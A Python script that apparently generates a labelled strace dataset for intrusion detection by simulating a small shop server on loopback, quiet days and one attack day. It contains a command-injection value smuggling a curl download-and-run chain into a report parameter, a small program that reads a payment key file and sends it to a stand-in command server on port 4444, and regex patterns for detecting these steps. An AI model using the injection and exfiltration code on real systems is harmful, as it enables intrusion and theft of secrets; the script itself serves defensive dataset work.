"""Records sample_logs/demo: real system calls of a small invented server, with strace.

    env -i /usr/bin/python3 sample_logs/record.py      # as root; strace, curl, git, ed, vim, ...

It copies sample_logs/shop to /srv/shop, which must not exist, records rounds of work there and
removes it again. Everything stays on loopback. Who visits the shop, who supplies it with exchange
rates, and the attacker's two servers are threads of this script, which is not traced.

A round takes seconds. `shift` then moves each round's stamps to an hour of its own, four quiet
days and a fifth with the attack, because what is routine is learned over hours; nothing else is
changed. truth.csv follows from the processes that the attack's shell started.
"""

import csv
import gzip
import os
import random
import re
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterable, Iterator, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TypeAlias
from urllib.parse import quote_plus

Visit: TypeAlias = str | Callable[[], object]  # a request, or whatever else happens meanwhile
Steps: TypeAlias = Sequence[tuple[str, bytes]]  # label, pattern of a call

HERE = Path(__file__).parent
SHOP = Path("/srv/shop")
TOOL = Path("/tmp/x")
QUIET, ATTACK = datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 6, tzinfo=UTC)
ROUNDS = range(48), range(48, 60)  # quiet, then those of the day of the attack
ATTACKED = 55
EVERY = timedelta(hours=2)
SHOP_PORT, RATES_PORT, TOOL_PORT, C2_PORT = 8080, 8090, 9090, 4444
ENVIRONMENT = {
    "PATH": "/usr/bin:/bin", "HOME": str(SHOP), "LANG": "C", "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_AUTHOR_NAME": "shop", "GIT_AUTHOR_EMAIL": "shop@example.org",
    "GIT_COMMITTER_NAME": "shop", "GIT_COMMITTER_EMAIL": "shop@example.org",
}  # fmt: skip
CALLS = (
    "execve,execveat,fork,vfork,clone,clone3,open,openat,creat,read,readv,pread64,write,writev,"
    "pwrite64,sendfile,copy_file_range,splice,rename,renameat,renameat2,unlink,unlinkat,rmdir,"
    "mkdir,mkdirat,link,linkat,symlink,symlinkat,chmod,fchmod,fchmodat,chown,fchown,fchownat,"
    "utimensat,truncate,ftruncate,socket,connect,accept,accept4,bind,listen,sendto,recvfrom,"
    "sendmsg,recvmsg,socketpair,pipe,pipe2,dup2,kill,tgkill,ptrace,chdir,fchdir,exit_group,"
    "memfd_create,getdents64"
)
INJECTED = (
    "x' data/orders.csv;curl -s -o /tmp/x http://127.0.0.1:9090/x;chmod 755 /tmp/x;/tmp/x;echo '"
)
REQUEST: Steps = [("request", rb"recvfrom\(.*%2Ftmp%2Fx")]
SHELL: Steps = [("shell", rb'execve\((?=.*"sh", "-c").*/tmp/x')]
STEPS: Steps = [
    ("fetch", rb'execve\("/usr/bin/curl"|(connect|sendto)\(.*(:9090|htons\(9090\))'
              rb'|recvfrom\(.*:9090|openat\(.*"/tmp/x", O_WRONLY|write\(\d+</tmp/x>'),
    ("make executable", rb'execve\("/usr/bin/chmod"|fchmodat\(.*"/tmp/x"'),
    ("run tool", rb'execve\("/tmp/x"'),
    ("read secret", rb"read\(.*payment\.key>.* = [1-9]"),
    ("exfiltrate", rb"(connect|sendto)\(.*(:4444|htons\(4444\))"),
]  # fmt: skip
PROGRAM = b"""#!/usr/bin/python3 -IS
import socket
key = open("/srv/shop/etc/payment.key").read()
far = socket.socket()
far.connect(("127.0.0.1", 4444))
far.sendall(key.encode())
far.close()
"""


def main() -> None:
    """Record both files and write what is true of them."""
    rng = random.Random(2026)
    refuse_to_overwrite(SHOP, TOOL)
    stolen: list[bytes] = []
    for port, page in ((RATES_PORT, b"EUR,1\nCHF,0.94\n"), (TOOL_PORT, PROGRAM)):
        serve(port, http(page))
    serve(C2_PORT, lambda caller: stolen.append(caller.recv(65536)))
    try:
        build()
        quiet, attack = (
            [round_(rng, jobs(n), visits(rng, n == ATTACKED)) for n in rounds] for rounds in ROUNDS
        )
    finally:
        shutil.rmtree(SHOP, ignore_errors=True)
        TOOL.unlink(missing_ok=True)
    assert any(b"not a real key" in data for data in stolen), "the attack failed"
    for name, rounds, start in (("quiet", quiet, QUIET), ("attack", attack, ATTACK)):
        lines = list(shifted(rounds, start, rng))
        write_log(HERE / "demo" / f"{name}.strace.gz", lines)
    found = truth(lines, REQUEST, SHELL, STEPS)
    write_truth(HERE / "demo/truth.csv", "attack.strace.gz", found)


def refuse_to_overwrite(*paths: Path) -> None:
    """Exit if one of the paths exists."""
    for path in paths:
        if path.exists():
            raise SystemExit(f"{path} exists; it would be overwritten")


def write_log(path: Path, lines: Iterable[bytes]) -> None:
    """Write lines as gzip; the same lines give the same bytes."""
    with path.open("wb") as raw, gzip.GzipFile("", "wb", 9, raw, mtime=0) as file:
        file.write(b"".join(lines))


def write_truth(path: Path, source: str, labels: Iterable[tuple[int, str]]) -> None:
    """Write which lines of a source are an attack."""
    with path.open("w", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(["source", "line", "label"])
        writer.writerows((source, number, label) for number, label in labels)


def jobs(n: int) -> list[str]:
    """Return what is done in round n, beside visits: some every time, some seldom."""
    rare = {0: "daily", 2: "look", 3: "edit", 4: "git", 5: "look", 7: "package", 8: "edit",
            9: "git", 11: "look"}  # fmt: skip
    found = ["hourly"]
    if n % 12 in rare:
        found.append(rare[n % 12])
    return found + {31: ["first-xz"], 52: ["first-openssl"]}.get(n, [])


def build() -> None:
    """Make the shop."""
    shutil.copytree(HERE / "shop", SHOP)
    for name in ("log", "tmp", "backup", "etc", "site"):
        (SHOP / name).mkdir()
    (SHOP / "log/access.log").write_text("")
    (SHOP / "etc/payment.key").write_text("not a real key: " + "4711 " * 20 + "\n")
    (SHOP / "site/items.csv").write_text("")
    (SHOP / "site/changes").write_text("")
    for command in ("git init -q .", "git add .", "git commit -q -m start"):
        subprocess.run(command.split(), cwd=SHOP / "site", env=ENVIRONMENT, check=True)


def visits(rng: random.Random, attacked: bool = False) -> list[Visit]:
    """Return the requests of one round."""
    found: list[Visit] = ["GET /items HTTP/1.0", "GET / HTTP/1.0", "GET /receipt HTTP/1.0"] * 2
    found += ["GET /report?month=2026-02 HTTP/1.0"] * rng.randint(1, 2)
    found += ["POST /order HTTP/1.0\r\n\r\nchair&40&2026-03-02"] * rng.randint(1, 3)
    rng.shuffle(found)
    if attacked:
        found.insert(4, injection(INJECTED))
    return found


def injection(text: str) -> str:
    """Return the request that gives the shop's shell a text."""
    return f"GET /report?month={quote_plus(text)} HTTP/1.0"


def round_(rng: random.Random, work: list[str], visits: Sequence[Visit]) -> list[bytes]:
    """Record one round; return its lines."""
    with (SHOP / "log/console").open("wb") as console:
        init = subprocess.Popen(
            [*strace("/srv/round"), "/bin/sh", "sbin/init", *work],
            cwd=SHOP, env=ENVIRONMENT, stdin=subprocess.PIPE, stdout=console, stderr=console,
        )  # fmt: skip
    while not answered("GET / HTTP/1.0"):
        time.sleep(0.05)
    for visit in visits:
        time.sleep(rng.uniform(0.02, 0.1))
        visit() if callable(visit) else answered(visit)
    init.communicate(b"done\n", timeout=120)
    recorded = Path("/srv/round")
    lines = recorded.read_bytes().splitlines(keepends=True)
    recorded.unlink()
    return lines


def strace(log: str, *more: str) -> list[str]:
    """Return what records a command that is put behind it."""
    return ["strace", "-f", "-ttt", *more, "-yy", "-s", "200", "-e", f"trace={CALLS}", "-o", log]


def answered(request: str) -> bool:
    """Send a request to the shop; return whether it answered."""
    with socket.socket() as visitor:
        try:
            visitor.connect(("127.0.0.1", SHOP_PORT))
        except ConnectionRefusedError:
            return False
        visitor.sendall((request if "\r\n" in request else request + "\r\n\r\n").encode())
        return bool(visitor.recv(65536))


def serve(port: int, talk: Callable[[socket.socket], object]) -> socket.socket:
    """Serve a port of loopback, 0 for any, in a thread until it is shut down, callers in turn."""
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", port))
    server.listen()

    def loop() -> None:
        while True:
            try:
                caller, _ = server.accept()
            except OSError:  # it was shut down
                return
            with caller:
                talk(caller)

    threading.Thread(target=loop, daemon=True).start()
    return server


def http(page: bytes) -> Callable[[socket.socket], None]:
    """Return what answers each request with a page."""
    head = f"HTTP/1.0 200 OK\r\nContent-Length: {len(page)}\r\n\r\n".encode()

    def talk(caller: socket.socket) -> None:
        caller.recv(65536)
        caller.sendall(head + page)

    return talk


STAMP = re.compile(rb"^(\d+ +)(\d+)\.(\d{6}) ")


def shifted(rounds: list[list[bytes]], start: datetime, rng: random.Random) -> Iterator[bytes]:
    """Move each round to an hour of its own, all its stamps by the same amount."""
    for n, lines in enumerate(rounds):
        begin = start + n * EVERY + timedelta(seconds=rng.uniform(60, 1800))
        found = STAMP.match(lines[0])
        assert found
        delta = int(begin.timestamp() * 1e6) - int(found[2]) * 1_000_000 - int(found[3])
        for line in lines:
            found = STAMP.match(line)
            assert found, line
            stamp = int(found[2]) * 1_000_000 + int(found[3]) + delta
            text = f"{stamp // 1_000_000}.{stamp % 1_000_000:06d} ".encode()
            yield found[1] + text + line[found.end() :]


def calls(lines: Iterable[bytes]) -> Iterator[tuple[int, bytes, bytes]]:
    """Return the calls that succeeded: line where it ended, from 1, process, whole call."""
    begun: dict[bytes, bytes] = {}
    for number, line in enumerate(lines, 1):
        pid, _, rest = line.partition(b" ")
        body = rest.lstrip().partition(b" ")[2].rstrip()
        if body.endswith(b"<unfinished ...>"):
            begun[pid] = body
            continue
        whole = begun.pop(pid, b"") + body if body.startswith(b"<... ") else body
        if b" = ? " in whole or (b" = -1 " in whole and b"EINPROGRESS" not in whole):
            continue
        yield number, pid, whole


def truth(
    lines: Iterable[bytes], request: Steps, entry: Steps, steps: Steps
) -> Iterator[tuple[int, str]]:
    """Return the lines of the attack's steps, from 1, with their labels.

    A call like `request` counts whoever makes it. One like `entry` makes its process an attacker,
    and with it all that it starts later. Of an attacker's calls those count that are like a step;
    that it loads its libraries does not. The first pattern that matches names the step.
    """
    made = list(calls(lines))
    # A child may run before strace tells that fork returned, so all forks are looked at first.
    forks = [
        (number, pid, child[1])
        for number, pid, whole in made
        if (child := re.match(rb"(?:v?fork|clone3?)\(.*= (\d+)(?:<.*>)?$", whole))
    ]
    since: dict[bytes, int] = {}  # the line from which on a process is an attacker
    for number, pid, whole in made:
        if _label(entry, whole):
            since.setdefault(pid, number)
    known = -1
    while known < len(since):  # a grandchild's fork may be told of before its parent's
        known = len(since)
        for number, pid, started in forks:
            if since.get(pid, number + 1) <= number:
                since.setdefault(started, 0)
    for number, pid, whole in made:
        label = _label(request, whole) or _label(entry, whole)
        if label is None and since.get(pid, number + 1) <= number:
            label = _label(steps, whole)
        if label:
            yield number, label


def _label(steps: Steps, call: bytes) -> str | None:
    return next((label for label, pattern in steps if re.match(pattern, call)), None)


if __name__ == "__main__":
    os.umask(0o022)
    main()
